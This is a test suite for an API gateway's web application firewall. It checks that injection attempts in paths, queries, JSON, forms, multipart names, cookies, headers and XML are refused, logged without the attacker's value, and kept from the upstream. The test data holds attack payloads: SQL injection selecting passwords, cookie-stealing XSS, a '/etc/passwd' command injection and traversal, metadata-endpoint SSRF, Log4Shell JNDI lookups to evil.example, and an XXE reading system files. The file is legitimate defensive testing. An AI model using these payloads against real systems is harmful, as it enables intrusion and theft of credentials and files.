/**
 * Class: injection in the free text the contract leaves open. Through a real gateway in front of a real upstream,
 * attacks in every input (path, query, JSON value, JSON key, form field, multipart file name, cookie, header, XML
 * body) are refused with 403 `injection_detected` and never reach the upstream; values the contract constrains
 * (enum, pattern, format, short maxLength) are not scanned; monitor mode lets the attack through, logs and counts it;
 * a leaking upstream response is replaced by a 502; the gateway stays alive.
 */
import { after, before, describe, test } from 'node:test';
import assert from 'node:assert/strict';
import { startGateway, type TestGateway } from '../helpers/gateway.ts';
import { startUpstream, type TestUpstream } from '../helpers/upstream.ts';
import { send } from '../helpers/gateway-fixtures.ts';
import { ADMIN_CONFIG, READ_TOKEN, TEST_ENV } from '../helpers/apikeys.ts';
import { assertAlive, assertProblem } from '../helpers/http.ts';

const SPEC = `openapi: 3.1.0
info: { title: shop, version: 1.0.0 }
paths:
  /users/{username}:
    get:
      operationId: getUser
      parameters:
        - { name: username, in: path, required: true, schema: { type: string } }
        - { name: q, in: query, schema: { type: string } }
        - { name: sort, in: query, schema: { type: string, enum: [asc, desc] } }
        - { name: code, in: query, schema: { type: string, pattern: '^[a-z<>= ]{1,40}$' } }
        - { name: short, in: query, schema: { type: string, maxLength: 8 } }
        - { name: X-Note, in: header, schema: { type: string } }
        - { name: session, in: cookie, schema: { type: string } }
      responses: { '200': { description: ok, content: { application/json: { schema: { type: object } } } } }
  /notes:
    post:
      operationId: createNote
      requestBody:
        content:
          application/json:
            schema:
              type: object
              properties:
                title: { type: string }
                email: { type: string, format: email }
                site: { type: string, format: uri }
                tags: { type: array, items: { type: string } }
                meta: { type: object, additionalProperties: { type: string } }
                blob: { type: string, contentEncoding: base64 }
          application/x-www-form-urlencoded:
            schema: { type: object, properties: { comment: { type: string } } }
          multipart/form-data:
            schema: { type: object, properties: { caption: { type: string }, file: { type: string, format: binary } } }
          application/xml:
            schema: { type: string }
      responses: { '201': { description: created, content: { application/json: { schema: { type: object } } } } }
  /debug:
    get:
      operationId: debug
      responses: { '200': { description: page, content: { text/html: {} } } }
`;

const ATTACKS: Record<string, string> = {
  sqli: "1' UNION SELECT username, password FROM users--",
  xss: '<img src=x onerror=alert(document.cookie)>',
  cmd: '; cat /etc/passwd',
  traversal: '../../../etc/passwd',
  ssrf: 'http://169.254.169.254/latest/meta-data/',
  log4shell: '${${lower:j}ndi:ldap://evil.example/a}',
  ssti: '{{7*7}}',
};

describe('WAF stage', () => {
  let upstream: TestUpstream;
  let gw: TestGateway;

  before(async () => {
    upstream = await startUpstream();
    upstream.handler = (req, res) => {
      if (req.url === '/debug') {
        res.writeHead(200, { 'content-type': 'text/html' });
        res.end('<h1>Error</h1><pre>Traceback (most recent call last):\n  File "app.py", line 3</pre>');
        return;
      }
      res.writeHead(req.method === 'POST' ? 201 : 200, { 'content-type': 'application/json' }).end('{}');
    };
    gw = await startGateway(
      {
        upstreams: { main: { url: upstream.url } },
        admin: ADMIN_CONFIG,
        apis: [
          { name: 'shop', spec: './shop.yaml', upstream: 'main', validation: { additional_properties: 'allow' } },
          { name: 'shopmon', spec: './shop.yaml', upstream: 'main', base_path: '/mon', waf: { mode: 'monitor' } },
        ],
      },
      { files: { 'shop.yaml': SPEC }, env: TEST_ENV },
    );
  });
  after(async () => {
    await gw?.close();
    await upstream?.close();
  });

  /** Sends, asserts 403 injection_detected and that the upstream saw nothing. */
  async function blocked(path: string, options: Parameters<typeof send>[2] = {}, what = path): Promise<void> {
    const before = upstream.seen.length;
    const res = await send(gw.url, path, options);
    assertProblem(res, 403, 'injection_detected');
    assert.equal(upstream.seen.length, before, `${what}: the upstream must not be reached`);
    assert.ok(!res.body.includes('union') && !res.body.includes('passwd'), 'the problem never echoes the value');
  }

  async function passed(path: string, options: Parameters<typeof send>[2] = {}): Promise<void> {
    const before = upstream.seen.length;
    const res = await send(gw.url, path, options);
    assert.ok(res.status === 200 || res.status === 201, `expected the request through, got ${res.status}: ${res.body.slice(0, 200)}`);
    assert.equal(upstream.seen.length, before + 1);
  }

  test('legitimate free text passes', async () => {
    await passed(`/users/${encodeURIComponent("o'brien")}?q=${encodeURIComponent("Select the best union suit or drop it, it's fine")}`, { headers: { 'x-note': 'Call me at 5 & ask for Anne', cookie: 'session=abc123' } });
    const body = JSON.stringify({ title: "Men's boots — size 10 <3", email: 'jane@example.com', site: 'https://example.com/shop', tags: ['sale', '50% off'], meta: { colour: 'red' } });
    await passed('/notes', { method: 'POST', headers: { 'content-type': 'application/json' }, body });
  });

  for (const [family, payload] of Object.entries(ATTACKS)) {
    test(`${family} in the query, a path segment and a JSON value is refused`, async () => {
      await blocked(`/users/alice?q=${encodeURIComponent(payload)}`, {}, `${family} query`);
      if (!payload.includes('/')) await blocked(`/users/${encodeURIComponent(payload)}`, {}, `${family} path`);
      await blocked('/notes', { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify({ title: payload }) }, `${family} JSON`);
      await blocked('/notes', { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify({ tags: ['ok', payload] }) }, `${family} JSON array`);
    });
  }

  test('attacks in a JSON key, a form field, a multipart file name, a cookie and headers are refused', async () => {
    await blocked('/notes', { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify({ meta: { $where: 'sleep(1000)' } }) }, 'JSON key');
    await blocked('/notes', { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify({ meta: { '<svg onload=alert(1)>': 'x' } }) }, 'JSON key xss');
    await blocked('/notes', { method: 'POST', headers: { 'content-type': 'application/x-www-form-urlencoded' }, body: `comment=${encodeURIComponent(ATTACKS['sqli']!)}` }, 'form');
    const boundary = 'b0undary';
    const multipart = [`--${boundary}`, 'Content-Disposition: form-data; name="file"; filename="../../etc/passwd"', 'Content-Type: text/plain', '', 'hello', `--${boundary}--`, ''].join('\r\n');
    await blocked('/notes', { method: 'POST', headers: { 'content-type': `multipart/form-data; boundary=${boundary}` }, body: multipart }, 'multipart file name');
    await blocked('/users/alice', { headers: { cookie: `session=${encodeURIComponent(ATTACKS['log4shell']!)}` } }, 'cookie');
    await blocked('/users/alice', { headers: { 'user-agent': '${jndi:ldap://evil.example/x}' } }, 'user-agent');
    await blocked('/users/alice', { headers: { 'x-note': ATTACKS['cmd']! } }, 'declared header');
    await blocked('/users/alice?filter%5B%24ne%5D=1', {}, 'undeclared query key');
  });

  test('encoded and obfuscated forms are refused', async () => {
    await blocked(`/users/alice?q=${encodeURIComponent('%253Cscript%253Ealert(1)%253C%252Fscript%253E')}`, {}, 'double percent');
    await blocked(`/users/alice?q=${encodeURIComponent('&lt;img src=x onerror=alert(1)&gt;')}`, {}, 'HTML entities');
    await blocked(`/users/alice?q=${encodeURIComponent('\\u003cscript\\u003ealert(1)')}`, {}, 'JS escapes');
    await blocked(`/users/alice?q=${encodeURIComponent('http://0x7f000001/admin')}`, {}, 'hex IP');
    await blocked(`/users/alice?q=${encodeURIComponent('%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd')}`, {}, 'overlong UTF-8');
  });

  test('an XML body with a DOCTYPE is refused', async () => {
    const xml = '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>';
    await blocked('/notes', { method: 'POST', headers: { 'content-type': 'application/xml' }, body: xml }, 'XXE');
  });

  test('text and attribute values of an XML body are scanned like JSON strings', async () => {
    const xml = (inner: string) => `<?xml version="1.0"?><note lang="en"><title>${inner}</title></note>`;
    await blocked('/notes', { method: 'POST', headers: { 'content-type': 'application/xml' }, body: xml("1' UNION SELECT username, password FROM users--") }, 'XML text');
    await blocked('/notes', { method: 'POST', headers: { 'content-type': 'application/xml' }, body: xml('&lt;img src=x onerror=alert(1)&gt;') }, 'XML entity-encoded text');
    await blocked('/notes', { method: 'POST', headers: { 'content-type': 'application/xml' }, body: '<note title="; cat /etc/passwd"/>' }, 'XML attribute');
    await blocked('/notes', { method: 'POST', headers: { 'content-type': 'application/xml' }, body: xml('<![CDATA[<script>alert(1)</script>]]>') }, 'XML CDATA');
    await passed('/notes', { method: 'POST', headers: { 'content-type': 'application/xml' }, body: xml("Men's boots &amp; socks <!-- size 10 -->") });
  });

  test('a contentEncoding base64 string is scanned decoded, and as text when it is not base64', async () => {
    const json = (blob: string) => ({ method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify({ blob }) });
    await blocked('/notes', json(Buffer.from('<script>alert(1)</script>').toString('base64')), 'base64 decoded');
    await blocked('/notes', json("1' UNION SELECT username, password FROM users--"), 'not base64');
    await passed('/notes', json(Buffer.from("Men's boots, size 10").toString('base64')));
  });

  test('values the contract constrains (pattern, enum, short maxLength, format) are not scanned', async () => {
    // The same markup is refused in the free-text `q` …
    await blocked(`/users/alice?q=${encodeURIComponent('<svg onload=x>')}`);
    // … but `code` has a pattern that allows it, and `short` a maxLength of 8: the contract decided.
    await passed(`/users/alice?code=${encodeURIComponent('<svg onload=x>')}`);
    await passed(`/users/alice?short=${encodeURIComponent('<script>')}`);
    await passed('/users/alice?sort=asc');
    // A URL-format field is scanned for internal targets only.
    await passed('/notes', { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify({ site: "https://example.com/?q=it's" }) });
    await blocked('/notes', { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify({ site: 'http://[::ffff:127.0.0.1]/' }) }, 'URL field');
  });

  test('monitor mode lets the attack through, logs the rule and field, never the value, and counts it', async () => {
    const marker = "zq' UNION SELECT secret_marker FROM users--";
    await passed(`/mon/users/alice?q=${encodeURIComponent(marker)}`);
    const hits = gw.logs.filter((l) => l['msg'] === 'WAF hit (monitor mode)');
    assert.ok(hits.some((l) => l['family'] === 'sqli' && l['field'] === 'query/q' && l['api'] === 'shopmon'), 'the hit is logged with family and field');
    assert.ok(!gw.rawLogs().includes('secret_marker'), 'the attacker value is never logged');
    const metrics = await (await fetch(`${gw.adminUrl}/metrics`, { headers: { authorization: `Bearer ${READ_TOKEN}` } })).text();
    assert.match(metrics, /rampart_waf_hits_total\{api="shopmon",family="sqli",rule="[a-z.-]+",mode="monitor"\} [1-9]/);
    assert.match(metrics, /rampart_waf_hits_total\{api="shop",family="xss",rule="[a-z.-]+",mode="block"\} [1-9]/);
  });

  test('every hit is in the audit trail with family, rule and field, never the value', async () => {
    const marker = "zz' UNION SELECT audit_marker FROM users--";
    await blocked(`/users/alice?q=${encodeURIComponent(marker)}`);
    await passed(`/mon/users/alice?q=${encodeURIComponent(marker)}`);
    const audit = gw.gateway.monitor.audit!;
    await audit.log.flush();
    const denied = (await audit.store.search({ type: 'request.denied', text: 'injection_detected' })).filter((r) => r.fields['code'] === 'injection_detected');
    assert.ok(denied.some((r) => String(r.fields['rule']).startsWith('sqli.') && JSON.stringify(r.fields['waf']).includes('query/q')), 'the denial names rule and field');
    const hits = await audit.store.search({ type: 'waf.hit' });
    assert.ok(hits.some((r) => JSON.stringify(r.fields).includes('"mode":"monitor"')), 'monitor-mode hits are audited too');
    const all = JSON.stringify([...denied, ...hits]);
    assert.ok(!all.includes('audit_marker'), 'the attacker value is never in the audit trail');
  });

  test('a response leaking a stack trace is replaced with a 502 (block) and passed in monitor mode', async () => {
    const res = await send(gw.url, '/debug');
    assertProblem(res, 502, 'upstream_invalid_response');
    assert.ok(!res.body.includes('Traceback'));
    const mon = await send(gw.url, '/mon/debug');
    assert.equal(mon.status, 200);
    assert.ok(gw.logs.some((l) => l['rule'] === 'leak-stack-python' && l['api'] === 'shopmon'));
  });

  test('the gateway stays alive', async () => {
    await assertAlive(gw.adminUrl);
  });
});

test('an exclusion that names only an operation stops start-up with its config path and the fix', async () => {
  const upstream = await startUpstream();
  try {
    await assert.rejects(
      startGateway({ upstreams: { main: { url: upstream.url } }, apis: [{ name: 'shop', spec: './shop.yaml', upstream: 'main', waf: { exclusions: [{ operation: 'getUser' }] } }] }, { files: { 'shop.yaml': SPEC } }),
      (error: Error & { issues?: { path: string; hint?: string }[] }) => {
        assert.deepEqual(error.issues?.map((i) => i.path), ['apis[0].waf.exclusions[0]']);
        assert.match(error.issues?.[0]?.hint ?? '', /waf\.families or waf\.enabled/);
        return true;
      },
    );
  } finally {
    await upstream.close();
  }
});

describe('the WAF under hostile load', () => {
  let upstream: TestUpstream;
  let gw: TestGateway;
  before(async () => {
    upstream = await startUpstream();
    gw = await startGateway(
      {
        monitor: { enabled: false },
        upstreams: { main: { url: upstream.url } },
        apis: [{ name: 'shop', spec: './shop.yaml', upstream: 'main', validation: { max_string_length: 1_000_000 }, response: { mode: 'off' } }],
      },
      { files: { 'shop.yaml': SPEC } },
    );
  });
  after(async () => {
    await gw?.close();
    await upstream?.close();
  });

  test('256 KiB free-text values built to cost the most (runs of separators, open templates, broken URLs, escapes) in parallel: every one answered, /readyz live, nothing reaches the upstream unscanned', async () => {
    const size = 256 * 1024;
    const units = ['|', '&', '{%', '${', 'http://[', 'http://x@', '%25', '&#', "'", '/*', '../', '<a ', '\\u00', '\u560a'];
    const seen = upstream.seen.length;
    const heavy = units.map((unit) =>
      send(gw.url, '/notes', { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify({ title: unit.repeat(Math.ceil(size / unit.length)).slice(0, size) }) }),
    );
    const ready = fetch(`${gw.adminUrl}/readyz`, { signal: AbortSignal.timeout(10_000) }).then((r) => r.status, () => 0);
    const [status, responses] = await Promise.all([ready, Promise.all(heavy)]);
    assert.equal(status, 200, '/readyz answered while the WAF worked');
    for (const [i, res] of responses.entries()) assert.ok(res.status === 200 || res.status === 403, `${JSON.stringify(units[i])}: answered ${res.status}`);
    const forwarded = responses.filter((r) => r.status === 200).length;
    assert.equal(upstream.seen.length - seen, forwarded, 'only what the WAF passed reached the upstream');
    await assertAlive(gw.adminUrl);
  });

  test('remembered clean verdicts: the same attack sent in parallel is refused every time, a flood of distinct clean values does not crowd one out, and a clean value stays clean', async () => {
    const attack = "1' UNION SELECT password FROM users--";
    let seen = upstream.seen.length;
    const same = await Promise.all(Array.from({ length: 50 }, () => send(gw.url, `/users/alice?q=${encodeURIComponent(attack)}`)));
    for (const res of same) assertProblem(res, 403, 'injection_detected');
    assert.equal(upstream.seen.length, seen, 'no copy of the attack reached the upstream');
    // More distinct User-Agents than the verdict store holds (4 096 per route), 50 at a time: it is emptied and refilled.
    for (let i = 0; i < 4_200; i += 50) {
      const batch = await Promise.all(Array.from({ length: 50 }, (_, j) => send(gw.url, '/users/alice', { headers: { 'user-agent': `client/${i + j}` } })));
      for (const res of batch) assert.equal(res.status, 200);
    }
    seen = upstream.seen.length;
    await Promise.all([
      send(gw.url, '/users/alice', { headers: { 'user-agent': '${jndi:ldap://evil.example/x}' } }).then((res) => assertProblem(res, 403, 'injection_detected')),
      send(gw.url, `/users/alice?q=${encodeURIComponent(attack)}`).then((res) => assertProblem(res, 403, 'injection_detected')),
    ]);
    assert.equal(upstream.seen.length, seen, 'after the flood the attacks are still refused before the upstream');
    const clean = await send(gw.url, '/users/alice', { headers: { 'user-agent': 'client/7' } });
    assert.equal(clean.status, 200);
    await assertAlive(gw.adminUrl);
  });

  test('HEAD with an injection in the query is refused before the upstream, with no body', async () => {
    const seen = upstream.seen.length;
    const res = await fetch(`${gw.url}/users/alice?q=${encodeURIComponent("1' UNION SELECT password FROM users--")}`, { method: 'HEAD' });
    assert.equal(res.status, 403);
    assert.equal(await res.text(), '');
    assert.equal(upstream.seen.length, seen);
  });
});
